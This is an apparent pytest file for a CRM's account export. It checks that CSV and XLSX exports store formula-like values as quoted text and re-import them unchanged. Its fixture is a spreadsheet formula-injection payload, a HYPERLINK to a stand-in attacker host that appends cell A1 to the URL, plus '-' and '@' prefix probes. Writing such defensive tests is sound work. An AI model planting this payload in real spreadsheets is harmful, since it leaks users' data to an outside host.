"""Exports never hand a spreadsheet a formula, and re-import the text as it was."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from fieldcrm.accounts.export import write_accounts
from fieldcrm.accounts.french_csv import iter_rows
from fieldcrm.accounts.parse import parse_accounts
from fieldcrm.accounts.records import ACCOUNT_FIELDS, AccountRecord

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
COLUMNS = ("name", "address_line1", "postcode", "city")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_formula_name_is_exported_as_text_and_reimported_unchanged(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"comptes{suffix}"
    rows = [{"name": NAME, "address_line1": "-1 rue du Port", "postcode": "06000", "city": "@Nice"}]
    assert write_accounts(rows, path, columns=COLUMNS) == 1
    if suffix == ".xlsx":
        sheet = load_workbook(path).worksheets[0]
        cells = [c for c in sheet[2]]
        assert all(c.data_type == "s" for c in cells), "text cells, never formulas"
        assert cells[0].value == "'" + NAME
    else:
        assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
    (record,) = parse_accounts(iter_rows(path, wanted=ACCOUNT_FIELDS))
    assert isinstance(record, AccountRecord)
    assert (record.name, record.address_line1, record.city) == (NAME, "-1 rue du Port", "@Nice")
